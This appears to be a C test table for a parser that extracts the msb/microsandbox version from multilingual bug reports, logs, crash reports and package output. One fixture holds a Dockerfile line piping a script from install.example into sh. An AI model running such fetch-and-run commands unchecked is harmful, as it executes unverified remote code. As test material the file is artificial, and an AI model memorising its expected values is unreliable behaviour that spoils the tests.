	{ "msb \xe3\x81\xaf 0.9.7 \xe3\x82\x92\xe4\xbd\xbf\xe3\x81\xa3\xe3\x81\xa6\xe3\x81\x84\xe3\x81\xbe\xe3\x81\x99\xe3\x80\x82\n", "0.9.7", "prose" },
	{ "Na notebooku m\xc3\xa1me msb ve verzi 0.9.7 z instala\xc4\x8dn\xc3\xadho skriptu.\n", "0.9.7", "prose" },
	/* (1845) the Greek word for version, declined, with its accent or not,
	 * and the Serbian or Macedonian Cyrillic one; another program's, a
	 * fixed or a next release in either language are not the one run */
	{ "Τρέχουμε την έκδοση 0.9.7 από το Homebrew σε Linux.\n", "0.9.7", "prose" },
	{ "ΕΚΔΟΣΗ: 0.9.7, Ubuntu 24.04 στο laptop.\n", "0.9.7", "prose" },
	{ "Κοιτάξτε τις σημειώσεις της εκδοσης 0.9.7 στο GitHub, εκεί το είδα.\n", "0.9.7", "prose" },
	{ "Код нас је msb у верзији 0.9.7, инсталиран преко brew.\n", "0.9.7", "prose" },
	{ "Ο πυρήνας έκδοση 6.8.12 του host δεν παίζει ρόλο.\n", NULL, NULL },
	{ "Python έκδοση 3.12.4 στο venv του project.\n", NULL, NULL },
	{ "Ίσως διορθώθηκε στην έκδοση 0.9.8, δεν το δοκίμασα.\n", NULL, NULL },
	{ "Mislim da je ispravljeno u verziji 0.9.8, nisam proverio.\n", NULL, NULL },
	{ "Možda radi u sledećoj verziji 0.9.8 koja još nije izašla.\n", NULL, NULL },
	{ "Pou\xc5\xbe\xc3\xadvam verziu 0.9.7 z Homebrew.\n", "0.9.7", "prose" },
	{ "A g\xc3\xa9pen a 0.9.7-es verzi\xc3\xb3 fut, brew-b\xc3\xb3l telep\xc3\xadtve.\n", "0.9.7", "prose" },
	{ "\xd0\x9c\xd0\xb8 \xd0\xb2\xd0\xb8\xd0\xba\xd0\xbe\xd1\x80\xd0\xb8\xd1\x81\xd1\x82\xd0\xbe\xd0\xb2\xd1\x83\xd1\x94\xd0\xbc\xd0\xbe \xd0\xb2\xd0\xb5\xd1\x80\xd1\x81\xd1\x96\xd1\x8e 0.9.7 \xd0\xb7 brew.\n", "0.9.7", "prose" },
	{ "\xe3\x82\xab\xe3\x83\xbc\xe3\x83\x8d\xe3\x83\xab\xe3\x81\xae\xe3\x83\x90\xe3\x83\xbc\xe3\x82\xb8\xe3\x83\xa7\xe3\x83\xb3\xe3\x81\xaf 6.8.12 \xe3\x81\xa7\xe3\x81\x99\xe3\x80\x82\n", NULL, NULL },
	{ "Python \xe3\x81\xae\xe3\x83\x90\xe3\x83\xbc\xe3\x82\xb8\xe3\x83\xa7\xe3\x83\xb3\xe3\x81\xaf 3.12.4 \xe3\x81\xa7\xe3\x81\x99\xe3\x80\x82\n", NULL, NULL },
	{ "\xe6\x9c\x80\xe6\x96\xb0\xe3\x83\x90\xe3\x83\xbc\xe3\x82\xb8\xe3\x83\xa7\xe3\x83\xb3\xe3\x81\xaf 0.9.9 \xe3\x81\xa7\xe3\x81\x99\xe3\x81\x8c\xe3\x80\x81\xe3\x81\xbe\xe3\x81\xa0\xe5\x85\xa5\xe3\x82\x8c\xe3\x81\xa6\xe3\x81\x84\xe3\x81\xbe\xe3\x81\x9b\xe3\x82\x93\xe3\x80\x82\n", NULL, NULL },
	{ "Node \xeb\xb2\x84\xec\xa0\x84\xec\x9d\x80 22.14.0\xec\x9e\x85\xeb\x8b\x88\xeb\x8b\xa4.\n", NULL, NULL },
	{ "Docker \xe7\x89\x88\xe6\x9c\xac\xe6\x98\xaf 27.3.1\xe3\x80\x82\n", NULL, NULL },
	{ "\xe4\xbf\xae\xe5\xa4\x8d\xe7\x9a\x84\xe7\x89\x88\xe6\x9c\xac\xe6\x98\xaf 0.9.9\xe3\x80\x82\n", NULL, NULL },
	{ "J\xc3\xa1" "dro ve verzi 6.8.12 nic nem\xc4\x9bn\xc3\xad.\n", NULL, NULL },
	{ "Python w wersji 3.12.4 te\xc5\xbc.\n", NULL, NULL },
	{ "Opraveno ve verzi 0.9.9, p\xc3\xad\xc5\xa1ou v changelogu.\n", NULL, NULL },
	{ "\xd0\x92 \xd1\x81\xd0\xbb\xd0\xb5\xd0\xb4\xd1\x83\xd1\x8e\xd1\x89\xd0\xb5\xd0\xb9 \xd0\xb2\xd0\xb5\xd1\x80\xd1\x81\xd0\xb8\xd0\xb8 0.9.9 \xd1\x8d\xd1\x82\xd0\xbe \xd0\xb8\xd1\x81\xd0\xbf\xd1\x80\xd0\xb0\xd0\xb2\xd1\x8f\xd1\x82.\n", NULL, NULL },
	/* issue #3, mails crowded with versions: one the writer sets aside
	 * ([version.aside]) is taken only when there is no other */
	{ "package.json says \"microsandbox\": \"~0.8.2\" and npm list shows 0.8.7 in node_modules.\n",
	  "0.8.7", "npm" },
	{ "pyproject.toml: microsandbox>=0.8.1,<0.9\nThe venv has it at version 0.8.5 (pip list shows 0.8.5).\n",
	  "0.8.5", "pip" },
	{ "Cargo.toml:\nmicrosandbox = \"^0.7.4\"\n\n$ cargo tree -i microsandbox\nmicrosandbox v0.8.2\n", "0.8.2", "msb" },
	{ "Nothing happens on msb 0.8.3, I tried that first. The leak starts with msb 0.8.5.\n", "0.8.5", "msb" },
	{ "I could not reproduce it with msb 0.8.2 on the old runner; our workstations are on 0.8.6.\n",
	  "0.8.6", "prose" },
	{ "We originally hit it on microsandbox 0.8.1 in September and it is\nstill there after upgrading, now on 0.8.7.\n",
	  "0.8.7", "prose" },
	{ "The CI hosts also have runc version 1.1.15 and Docker Engine 27.4.0 beside msb, which we\nupgraded last week; we are using 0.8.6.\n",
	  "0.8.6", "prose" },
	{ "msb next to Rancher Desktop (1.16.0); msb itself installed via the tap, version 0.8.4.\n", "0.8.4", "prose" },
	/* issue #3: the word for tag in other languages, also after the
	 * version as Korean, Chinese and Turkish put it; a test tag of the
	 * writer's own (a suffix) is none */
	{ "v0.9.4 태그의 워크플로에서 확인했습니다.\n", "0.9.4", "tag" },
	{ "我在 v0.8.7 的标签上构建了一次。\n", "0.8.7", "tag" },
	{ "Sorun v0.9.1 etiketindeki release.yml dosyasında.\n", "0.9.1", "tag" },
	{ "En la etiqueta v0.9.2 el workflow publica sin firmar.\n", "0.9.2", "tag" },
	{ "В теге v0.8.12 скрипт тот же.\n", "0.8.12", "tag" },
	{ "フォークで v0.9.3-rehearsal タグを push しました。\n", NULL, NULL },
	/* ... and when it is the only one, it stays */
	{ "requirements.txt has microsandbox>=0.8.2 and nothing else pinned.\n", "0.8.2", "prose" },
	{ "msb 0.8.3 is not affected as far as I can tell.\n", "0.8.3", "msb" },
	/* a package manager that installs msb names no other product */
	{ "Installed msb from brew (0.8.5) on my Mac.\n", "0.8.5", "prose" },
	/* issue #3: the release the writer moved to is the newest they ran;
	 * one the move fixed, or not made yet, is set aside */
	{ "Seen first on msb 0.8.6 last month. I updated msb to 0.8.9 on Friday and the guest\nstill reads the file.\n",
	  "0.8.9", "prose" },
	{ "Since upgrading to 0.8.9 it happens on every run, not only now and then.\n", "0.8.9", "prose" },
	{ "We upgraded to 0.8.9 and that fixed it; the transcript was made with msb 0.8.7.\n", "0.8.7", "msb" },
	{ "We haven't upgraded to 0.8.9 yet; our hosts run microsandbox 0.8.7.\n", "0.8.7", "msb" },
	{ "I upgraded the kernel to 6.8.12 last night; we still run msb 0.8.7.\n", "0.8.7", "msb" },
	{ "Please upgrade to 0.8.9 if you can.\n", NULL, NULL },
	/* a version asked about is no version run */
	{ "We're still on msb 0.8.6 here.\n- Is 0.8.6 affected, or only 0.8.7?\n- After upgrading to 0.8.8, do we\n  need to recreate the sandboxes?\n",
	  "0.8.6", "msb" },
	/* the answer of a REPL or a notebook cell after its result prompt */
	{ "In [3]: microsandbox.__version__\nOut[3]: '0.8.9'\n", "0.8.9", "pip" },
	{ "> require('microsandbox/package.json').version\n'0.8.8'\n", "0.8.8", "npm" },
	/* configuration and automation: a key naming the product's version,
	 * a record of the product with its version field */
	{ "FROM debian:12\nARG MSB_VERSION=0.8.9\nRUN curl -fsSL https://install.example/msb.sh | sh -s -- \"$MSB_VERSION\"\n",
	  "0.8.9", "msb" },
	{ "jobs:\n  e2e:\n    env:\n      MICROSANDBOX_VERSION: \"0.8.8\"\n", "0.8.8", "msb" },
	{ "[{\"name\": \"requests\", \"version\": \"2.32.3\"}, {\"name\": \"microsandbox\", \"version\": \"0.8.9\"}]\n",
	  "0.8.9", "package" },
	{ "\"msb\": [\n  {\n    \"arch\": \"amd64\",\n    \"source\": \"apt\",\n    \"version\": \"0.8.7-1\"\n  }\n]\n",
	  "0.8.7", "package" },
	{ "packages:\n  - name: microsandbox\n  - name: requests\n    version: 2.32.3\n", NULL, NULL },
	/* (1533, 1538) a Helm release of microsandbox's chart: `helm list`'s
	 * APP VERSION column, the app version said with the chart's, Chart.yaml's
	 * appVersion; not the chart's own version, not another chart's */
	{ "NAME   NAMESPACE   REVISION  UPDATED                                 STATUS    CHART                  APP VERSION\n"
	  "sbx    sandboxes   12        2031-01-20 09:14:02.5512 +0000 UTC      deployed  msb-operator-1.2.0     v0.11.2\n", "0.11.2", "package" },
	{ "vault  vault  3  2031-01-20 09:14:02.5512 +0000 UTC  deployed  vault-0.28.0  1.15.2\n", NULL, NULL },
	{ "We upgraded the msb-operator chart last week (app version 0.9.7 now).\n", "0.9.7", "package" },
	{ "Our staging runs the vault chart 0.28.0 with app version 1.15.2.\n", NULL, NULL },
	{ "apiVersion: v2\nname: microsandbox-operator\ndescription: runs sandboxes\nversion: 0.4.0\nappVersion: \"0.10.4\"\n", "0.10.4", "package" },
	{ "apiVersion: v2\nname: grafana\nversion: 8.5.1\nappVersion: \"11.3.0\"\n", NULL, NULL },
	/* issue #3: crash and diagnostics reports of msb give the version of
	 * the program that crashed (msb's own crash file, Crashpad's
	 * annotations, Sentry's release, Windows Error Reporting, macOS's text
	 * report, systemd-coredump's package note, the name after the version) */
	{ "{\n  \"program\": \"microsandbox\",\n  \"arch\": \"x86_64\",\n  \"version\": \"0.9.2\",\n"
	  "  \"panic\": \"index out of bounds\"\n}\n", "0.9.2", "crash-report" },
	{ "\"ptype\": \"browser\",\n\"prod\": \"msb\",\n\"ver\": \"0.8.6\",\n", "0.8.6", "crash-report" },
	{ "{\"event_id\": \"9f1c\", \"release\": \"msb@0.9.4\", \"platform\": \"native\"}\n", "0.9.4", "crash-report" },
	{ "Version=1\nEventType=APPCRASH\nSig[0].Name=Application Name\nSig[0].Value=msb.exe\n"
	  "Sig[1].Name=Application Version\nSig[1].Value=0.9.1.0\n", "0.9.1", "crash-report" },
	{ "Process:               msb [4242]\nPath:                  /usr/local/bin/msb\n"
	  "Identifier:            msb\nVersion:               0.8.7\nOS Version:            macOS 14.7 (23H124)\n",
	  "0.8.7", "crash-report" },
	{ "{\"appVersion\":\"0.9.0\",\"osVersion\":\"15.4\",\"appName\":\"microsandbox\"}\n", "0.9.0", "crash-report" },
	{ "           PID: 31337 (msb)\n        Signal: 11 (SEGV)\n       Package: microsandbox/0.9.2-1.fc41\n",
	  "0.9.2", "crash-report" },
	/* the product's own file naming its release in its header */
	{ "#!/bin/sh\n# microsandbox installer for v0.9.1\nset -eu\n", "0.9.1", "msb" },
	/* ... and not another program's: the reporter's own package.json, a
	 * crash report of another application (msb only its parent), another
	 * tool's diagnostics */
	{ "{\n  \"name\": \"acme-dashboard\",\n  \"version\": \"2.4.1\",\n  \"dependencies\": {\n"
	  "    \"express\": \"^4.19.2\"\n  }\n}\n", NULL, NULL },
	{ "{\"app_name\":\"Finder\",\"app_version\":\"14.5.0\",\"parentProc\":\"msb\"}\n", NULL, NULL },
	{ "{\"app_name\":\"Docker Desktop\",\"app_version\":\"4.30.0\",\"os_version\":\"macOS 14.5 (23F79)\"}\n",
	  NULL, NULL },
	{ "Process:               Safari [812]\nIdentifier:            com.apple.Safari\nVersion:               17.5\n",
	  NULL, NULL },
	/* a key that only ends in "name" (a sandbox's, an image's) names no
	 * package: the version after it is not msb's */
	{ "{\"sandbox_name\": \"msb\", \"version\": \"3.1.4\"}\n", NULL, NULL },
	/* issue #3: envinfo's "range => installed" is the installed release;
	 * a version written with the command that gives it */
	{ "  npmPackages:\n    microsandbox: ~0.9.1 => 0.9.3\n    react: ^18.2.0 => 18.3.1\n", "0.9.3", "npm" },
	{ "Our lock file pins \"microsandbox\": \"^0.9.0\", and envinfo prints\n  microsandbox: ^0.9.0 => 0.9.2\n",
	  "0.9.2", "npm" },
	{ "Servidor de pruebas: 0.9.6 (seg\u00fan `msb --version`), paquete .deb.\n", "0.9.6", "msb" },
	{ "Node 22.4.0 (node --version) and nothing else of ours installed.\n", NULL, NULL },
	{ "image.name: \"msb\"\nimage.version: \"2.0.1\"\n", NULL, NULL },
	/* a repository file read at a release tag is that release, though
	 * its name looks like a host name ("release.yml at v0.9.4"); a host
	 * that runs a version is still another site's software */
	{ "The publish step (.github/workflows/publish.yml at v0.9.4) fetches the kernel over http.\n",
	  "0.9.4", "tag" },
	{ "Looking at scripts/install.sh on v0.7.12 the checksum line is commented out.\n", "0.7.12", "tag" },
	{ "Our mirror sync.example.net at 2.3.1 serves the files.\n", NULL, NULL },
	{ "status.example.io is running 4.0.2 right now.\n", NULL, NULL },
	/* (#3) a version only in a Rust panic backtrace: a source file of one of
	 * the product's crates in the cargo registry is that release; a
	 * dependency's crate is not */
	{ "thread 'tokio-runtime-worker' panicked at /home/ci/.cargo/registry/src/index.crates.io-6f17d22bba15001f/"
	  "microsandbox-core-0.7.3/src/vm/boot.rs:140:9:\ncalled `Option::unwrap()` on a `None` value\n",
	  "0.7.3", "crash-report" },
	{ "   4: msb::main\n             at C:\\Users\\dev\\.cargo\\registry\\src\\index.crates.io-6f17d22bba15001f\\msb-0.8.2\\src\\main.rs:31:5\n",
	  "0.8.2", "crash-report" },
	{ "   7: tokio::runtime::task::harness::poll\n             at /root/.cargo/registry/src/index.crates.io-6f17d22bba15001f/"
	  "tokio-1.38.0/src/runtime/task/harness.rs:473:19\n"
	  "   8: serde_json::de::from_str\n             at /root/.cargo/registry/src/x/serde-1.0.200/src/de.rs:12:3\n", NULL, NULL },
	/* (#3) the product's daemon announcing its version in a pasted journal
	 * or syslog line; another program's version in such a line is not it */
	{ "Oct 02 10:11:12 host7 msbd[4242]: msbd v0.7.9 listening on /run/msb/msbd.sock\n", "0.7.9", "msb" },
	{ "  jan 05 07:00:01 node3 msbd[771]: boot ok, version=0.8.0 pid=771\n", "0.8.0", "msb" },
	{ "  jan 05 07:00:01 node3 msbd[771]: starting microsandbox-server version=0.9.1\n", "0.9.1", "msb" },
	{ "  jan 05 07:00:01 node3 msbd[771]: found runc version=1.1.14 on PATH\n", NULL, NULL },
	{ "  jan 05 07:00:01 node3 sshd[912]: OpenSSH version=9.6 accepted key\n", NULL, NULL },
	/* (#3) a version in Chinese, Japanese or Korean prose: the release the
	 * writer moved to, or reproduced on, over the one first seen; not a
	 * move advised or one that made the bug go away */
	{ "\xe4\xb8\x80\xe5\xbc\x80\xe5\xa7\x8b\xe6\x98\xaf\xe5\x9c\xa8 0.7.1 \xe4\xb8\x8a\xe7\x9c\x8b\xe5\x88\xb0\xe7\x9a\x84\xef\xbc\x8c"
	  "\xe5\x8d\x87\xe7\xba\xa7\xe5\x88\xb0 0.7.4 \xe5\x90\x8e\xe8\xbf\x98\xe6\x98\xaf\xe4\xb8\x80\xe6\xa0\xb7\xe3\x80\x82\n", "0.7.4", "prose" },
	{ "\xe6\x88\x91\xe4\xbb\xac\xe5\x9c\xa8 0.9.2 \xe4\xb8\x8a\xe5\xa4\x8d\xe7\x8e\xb0\xe4\xba\x86\xe8\xbf\x99\xe4\xb8\xaa\xe9\x97\xae\xe9\xa2\x98\xe3\x80\x82\n", "0.9.2", "prose" },
	{ "0.8.8 \xe3\x81\xab\xe3\x82\xa2\xe3\x83\x83\xe3\x83\x97\xe3\x82\xb0\xe3\x83\xac\xe3\x83\xbc\xe3\x83\x89\xe3\x81\x97\xe3\x81\xa6\xe3\x82\x82\xe5\x86\x8d\xe7\x8f\xbe\xe3\x81\x97\xe3\x81\xbe\xe3\x81\x99\xe3\x80\x82\n", "0.8.8", "prose" },
	{ "0.8.8\xec\x97\x90\xec\x84\x9c \xec\x9e\xac\xed\x98\x84\xeb\x90\xa9\xeb\x8b\x88\xeb\x8b\xa4.\n", "0.8.8", "prose" },
	{ "\xe5\xbb\xba\xe8\xae\xae\xe5\x8d\x87\xe7\xba\xa7\xe5\x88\xb0 0.9.9\xe3\x80\x82\n", NULL, NULL },
	{ "\xe5\x8d\x87\xe7\xba\xa7\xe5\x88\xb0 0.9.9 \xe5\x90\x8e\xe9\x97\xae\xe9\xa2\x98\xe6\xb6\x88\xe5\xa4\xb1\xe4\xba\x86\xe3\x80\x82\n", NULL, NULL },
	{ "\xe6\x8a\x8a Docker \xe5\x8d\x87\xe7\xba\xa7\xe5\x88\xb0 27.3.1 \xe4\xba\x86\xe3\x80\x82\n", NULL, NULL },
	{ "\xe6\x8a\x8a msb \xe5\x8d\x87\xe7\xba\xa7\xe5\x88\xb0 0.9.3 \xe4\xb9\x8b\xe5\x90\x8e\xe4\xbb\x8d\xe7\x84\xb6\xe5\x8f\xaf\xe4\xbb\xa5\xe3\x80\x82\n", "0.9.3", "prose" },
	{ "\xe5\x86\x85\xe6\xa0\xb8\xe5\x8d\x87\xe7\xba\xa7\xe5\x88\xb0 6.8.12 \xe4\xb9\x8b\xe5\x90\x8e\xe3\x80\x82\n", NULL, NULL },	/* (#3) a CVE request or advisory form's field: MITRE's "[Affected
	 * Product Code Base]" answered "product - version" on the next line,
	 * "[Affected version(s)]", "Versions affected:", and the labels in
	 * other languages; not a range, a fix version or another product */
	{ "[Vendor of Product]\nAcme\n\n[Affected Product Code Base]\nmicrosandbox - 0.9.7 (all builds before the fix)\n", "0.9.7", "msb" },
	{ "[Affected version(s)]\n0.9.7\n\n[Attack Type]\nRemote\n", "0.9.7", "msb" },
	{ "Versions affected:\n\n  msb 0.8.2\n", "0.8.2", "msb" },
	{ "Versi\xc3\xb3n afectada: 0.9.1\n", "0.9.1", "msb" },
	{ "Versions affect\xc3\xa9" "es :\nmicrosandbox \xe2\x80\x93 0.9.1\n", "0.9.1", "msb" },
	{ "[Affected Product Code Base]\nmicrosandbox - 0.6.10 - 0.6.14\n", NULL, NULL },
	{ "[Fixed Version]\n0.9.8\n", NULL, NULL },
	{ "Affected versions:\nrequests 2.31.0\n", NULL, NULL },
	/* (#3) the release the writer checked, named by the words for it and
	 * then its number, in English and other languages; not advice to
	 * upgrade, nor another product's latest release */
	{ "Checked against the current release, 0.9.6 (from the download page).\n", "0.9.6", "prose" },
	{ "I tested it on the latest version (0.9.6) as well.\n", "0.9.6", "prose" },
	{ "Verified against v0.9.6 this morning.\n", "0.9.6", "prose" },
	{ "Probado con la \xc3\xbaltima versi\xc3\xb3n, 0.9.6, en Linux.\n", "0.9.6", "prose" },
	{ "V\xc3\xa9rifi\xc3\xa9 sur la version actuelle (0.9.6).\n", "0.9.6", "prose" },
	{ "Please upgrade to the latest release, 0.9.8, which fixes it.\n", NULL, NULL },
	{ "Tested with the latest Docker release, 27.3.1.\n", NULL, NULL },
	{ "Checked against the current release of Docker, 27.3.1.\n", NULL, NULL },
	{ "Actualice a la \xc3\xbaltima versi\xc3\xb3n, 0.9.8.\n", NULL, NULL },
	/* (#3) a version in a version-bump title is what the bump would set:
	 * the version the writer read wins; alone it is still taken; a move
	 * the writer made is theirs */
	{ "anyone can open \"bump: msb 0.9.9\" from a fork; the formula is at msb 0.9.8 today.\n", "0.9.8", "msb" },
	{ "A PR titled \"chore: bump microsandbox 0.9.9\" gets merged.\n", "0.9.9", "msb" },
	{ "I bumped msb to 0.9.9 and it still happens.\n", "0.9.9", "prose" },
	/* (1307, 1318) the version told as what it is, with what it is of or
	 * who runs it between ("Version of the package is ...", "la versión
	 * que tenemos instalada es la ..."), in the languages of version-is;
	 * not a fix's version, not another program's */
	{ "Version of the SDK is 0.9.7, I believe (pip installed it last month).\n", "0.9.7", "prose" },
	{ "La versi\xc3\xb3n que usamos en el laboratorio es la 0.9.7, instalada desde el .deb.\n", "0.9.7", "prose" },
	{ "La versione del pacchetto \xc3\xa8 la 0.9.7.\n", "0.9.7", "prose" },
	{ "La version que nous utilisons est la 0.9.7.\n", "0.9.7", "prose" },
	{ "The version we have installed is 0.9.7 from Homebrew.\n", "0.9.7", "prose" },
	{ "La versi\xc3\xb3n que corrige el fallo es la 0.9.8.\n", NULL, NULL },
	{ "The version of the kernel is 6.8.12.\n", NULL, NULL },
	{ "The version that fixes it is 0.9.8.\n", NULL, NULL },
	/* (1334) Italian, Spanish, French, Portuguese: the version the writer
	 * used, maybe after an article alone; not another program's */
	{ "Per i test abbiamo installato la 0.9.7 su due macchine.\n", "0.9.7", "prose" },
	{ "Hemos probado la versi\xc3\xb3n 0.9.7 en Fedora.\n", "0.9.7", "prose" },
	{ "J'ai install\xc3\xa9 la 0.9.7 hier soir.\n", "0.9.7", "prose" },
	{ "Ho usato la 3.11.9 di Python per lo script.\n", NULL, NULL },
	{ "Il problema \xc3\xa8 corretto nella 0.9.8.\n", NULL, NULL },
	/* (1309, 1333) a release read at its tag: its notes or its source
	 * ("against the v0.9.7 release notes", "the source of v0.9.7"), also
	 * in other languages; not another project's release, not the code of
	 * a release to come */
	{ "I compared it against the v0.9.7 release notes and the installer.\n", "0.9.7", "tag" },
	{ "Section 2 (from the source code of v0.9.7)\n", "0.9.7", "tag" },
	{ "Seg\xc3\xban el c\xc3\xb3" "digo fuente de la v0.9.7 el archivo se abre con 0644.\n", "0.9.7", "tag" },
	{ "Im Quellcode von v0.9.7 fehlt die Pr\xc3\xbc" "fung.\n", "0.9.7", "tag" },
	{ "We only checked against the v18.3.1 release of React.\n", NULL, NULL },
	{ "The source of v2.4.1 of libfoo has the same bug.\n", NULL, NULL },
	{ "The code for 0.9.8 will change this.\n", NULL, NULL },
	/* (1317) the move told, then what the product says now: the newest
	 * run; one the move fixed is set aside for the earlier one */
	{ "msb --version gave 0.9.6. Then I updated via brew and now it says msb 0.9.7; same result.\n", "0.9.7", "prose" },
	{ "I reinstalled from the script, now I'm on 0.9.7 and it still leaks.\n", "0.9.7", "prose" },
	{ "msb --version gave 0.9.6. I updated and now it shows 0.9.7 and the leak is gone.\n", "0.9.6", "msb" },
	{ "We upgraded from 0.9.6 to 0.9.7 and it is gone; msb 0.9.6 had it.\n", "0.9.6", "msb" },
	{ "It is fixed in 0.9.8.\n", NULL, NULL },
	{ "I updated the kernel and now it says 6.9.3-76060903-generic.\n", NULL, NULL },
	/* (1371) a version in the digits of another script is the same
	 * number, read as ASCII: Persian, Arabic-Indic (with its decimal
	 * separator), full-width; the word "version" in Persian or Arabic */
	{ "روی سرور ما نسخهٔ microsandbox برابر ۰.۹.۳ نصب شده است.\n", "0.9.3", "prose" },
	{ "از نسخه ۰.۹.۳ استفاده می‌کنیم و مشکل هنوز هست.\n", "0.9.3", "prose" },
	{ "إصدار msb لدينا هو ٠٫٩٫٣ على الخادم.\n", "0.9.3", "prose" },
	{ "نستخدم الإصدار 0.9.3 في بيئة الاختبار.\n", "0.9.3", "prose" },
	{ "$ msb --version\nmsb ０．９．３\n", "0.9.3", "msb" },
	{ "microsandbox のバージョンは ０.９.３ です。\n", "0.9.3", "prose" },
	{ "نسخه‌ی کرنل ۶.۸.۰ است و پایتون ۳.۱۲.۴.\n", NULL, NULL },
	{ "إصدار بايثون لدينا 3.12.4 فقط.\n", NULL, NULL },
	{ "تاريخ التقرير ٢٠٢٨/٠٦/٢٢ والمنفذ ٤٤٣.\n", NULL, NULL },
	/* (1395) a form's label naming both tools */
	{ "Category: SDK - Node\nCLI/SDK version: 0.9.11\n", "0.9.11", "prose" },
	{ "  SDK or CLI version = 0.9.11\n", "0.9.11", "prose" },
	{ "Node.js / Python version: 3.12.4\n", NULL, NULL },
	{ "Docker / CLI version: 27.3.1 (build ce12230)\n", NULL, NULL },
	/* (1449) the word for version in Vietnamese: "phiên bản", or "bản"
	 * right after the product or its SDK or CLI; another program's, a
	 * fixed or a patch release is none */
	{ "Chúng tôi đang dùng microsandbox phiên bản 0.9.12 trên máy chủ.\n", "0.9.12", "prose" },
	{ "Cấu hình: CLI bản 0.10.2, Node SDK đi kèm.\n", "0.10.2", "prose" },
	{ "Máy tôi có Python phiên bản 3.11.9 và Docker 27.1.1.\n", NULL, NULL },
	{ "Lỗi tương tự đã được sửa trong bản 0.9.4 năm ngoái.\n", NULL, NULL },
	{ "Tôi chưa cài bản vá 0.10.3 nên chưa biết.\n", NULL, NULL },
	{ "Có bản 0.10.3 không?\n", NULL, NULL },
	/* (1476) `rpm -q`'s name-version-release quoted in a sentence; a
	 * range joined with a hyphen stays a range, a fixed package is none */
	{ "Package: microsandbox-0.9.5-3.2 (from rpm -q on Tumbleweed)\n", "0.9.5", "package" },
	{ "our hosts have microsandbox-cli-0.10.1-1.el9 installed\n", "0.10.1", "package" },
	{ "msb 0.6.10-0.6.14 are all affected\n", NULL, NULL },
	{ "Please upgrade to microsandbox-0.10.9-1.1 which fixes it.\n", NULL, NULL },
	/* (1460) a list of affected versions, one marked as the one tested:
	 * that one; another program's "(tested)" is none */
	{ "| Versions | 0.9.1, 0.9.2, 0.9.3 (tested), maybe older |\n", "0.9.3", "prose" },
	{ "Affects msb 0.8.8 and 0.8.9 (reproduced here).\n", "0.8.9", "prose" },
	{ "Python 3.11.4 (tested) and 3.12.1 both show it.\n", NULL, NULL },
	/* (1464) the start of a range named as a tag is a bound; the tag the
	 * writer checked at is the version */
	{ "The workflow is affected since at least tag `v0.8.4`; checked at `v0.9.9` (current release).\n", "0.9.9", "prose" },
	{ "Present since the release v0.7.2, at least.\n", "0.7.2", "tag" },
	/* (1485) a commit named with its branch in parentheses; a fix's
	 * commit, a number or a word is none */
	{ "vmm/src/rtc.rs, write_index()\nat 6c0e2f4 (main as of Monday):\n", "6c0e2f4", "commit" },
	{ "read the handler at `b71d3a9` (from master)\n", "b71d3a9", "commit" },
	{ "This was fixed by 5e2b9c1 (main) in June.\n", NULL, NULL },
	{ "See ticket 4417702 (main) for context.\n", NULL, NULL },
	/* (1568) Homebrew's answer told in prose; Homebrew's own version and
	 * another formula's are not ours */
	{ "Got it via Homebrew; brew list --versions microsandbox shows 0.10.6 on this box.\n", "0.10.6", "msb" },
	{ "I checked and brew info says it's 0.9.11.\n", "0.9.11", "msb" },
	{ "brew --version says 4.4.2 and the tap is up to date.\n", NULL, NULL },
	{ "brew info python@3.12 says 3.12.7, fine.\n", NULL, NULL },
	/* (1575, 1584, 1585) the product's package or installer file by name,
	 * dpkg's progress lines; another program's files are not */
	{ "I installed the downloaded msb-0.10.4.pkg as admin.\n", "0.10.4", "package" },
	{ "Scaricato microsandbox-0.10.3-x64.msi dalla pagina delle release.\n", "0.10.3", "package" },
	{ "sudo dpkg -i ./microsandbox_0.10.2-1_arm64.deb\n", "0.10.2", "package" },
	{ "Preparing to unpack .../archives/foo.deb ...\nSetting up msb (0.10.1-2) ...\n", "0.10.1", "package" },
	{ "Ran node-v22.1.0-x64.msi and python-3.12.7-macos11.pkg first.\n", NULL, NULL },
	{ "Setting up nodejs (22.1.0-1nodesource1) ...\n", NULL, NULL },
	{ "msb_0.10.2-1_amd64.changes lists the files.\n", NULL, NULL },
	/* (1575) apt-cache policy of the package named msb */
	{ "msb:\n  Installed: 0.10.5-1\n  Candidate: 0.10.5-1\n", "0.10.5", "package" },
	/* (1606) an image under the project's organisation by its tag; other
	 * images are not ours */
	{ "docker pull ghcr.io/superradcompany/base-node:0.10.4\n", "0.10.4", "image" },
	{ "FROM python:3.12.7-slim\nand docker.io/library/node:22.1.0 too\n", NULL, NULL },
	{ "ghcr.io/someoneelse/base-python:3.12.7 is theirs\n", NULL, NULL },
	/* (1574) the version the whole report was made with, no product named */
	{ "All of this was on 0.10.3.\n", "0.10.3", "prose" },
	{ "That's using v0.10.2 here, latest from the site.\n", "0.10.2", "prose" },
	{ "This is with 6.8.12 kernel on my laptop.\n", NULL, NULL },
	{ "This was on 3.12.4 of Python.\n", NULL, NULL },
	/* (1524) a commit another repository's tag resolves to, or one called
	 * malicious, is that action's or the attacker's code: the release the
	 * writer names is the version.  Not a commit of ours named near an
	 * action, nor one merely tested against a malicious payload */
	{ "Your deploy.yml pulls acme/setup-tool@v1, which resolved to commit 4d5e6f7 in the run of the v0.10.8 release.\n", "0.10.8", "tag" },
	{ "Built from the v0.9.2 tag. Since Friday the action's tag points to a malicious commit 9b8a7c6.\n", "0.9.2", "tag" },
	{ "I pinned acme/setup-tool@v1 and ran msb built from commit 5a6b7c8.\n", "5a6b7c8", "commit" },
	{ "I checked out commit 2c3d4e5 to test the malicious payload.\n", "2c3d4e5", "commit" },
	/* (1627) the product naming itself in a captured HTTP header (curl -si,
	 * curl -v): the release that answered; another product's token, or a
	 * client that only says it is compatible, is none */
	{ "HTTP/1.1 200 OK\ncontent-type: application/json\nServer: msb-server/0.9.12\n\n{}\n", "0.9.12", "msb" },
	{ "< HTTP/2 401\n< server: microsandbox-server/0.10.1\n< content-length: 0\n", "0.10.1", "msb" },
	{ "> User-Agent: msb-cli/0.10.3\n> Accept: */*\n", "0.10.3", "msb" },
	{ "HTTP/1.1 502 Bad Gateway\nServer: nginx/1.27.0\nX-Backend: msb\n", NULL, NULL },
	{ "User-Agent: tenantbox-sdk/3.2.0 (msb-compatible)\n", NULL, NULL },
	{ "Via: 1.1 acme-msb-gateway/2.4.1\n", NULL, NULL },
	/* (1653) a branch named before its commit, after where the writer
	 * looked or ran, also across a line break and in other languages;
	 * not a number, not another project's branch, not a fix's commit */
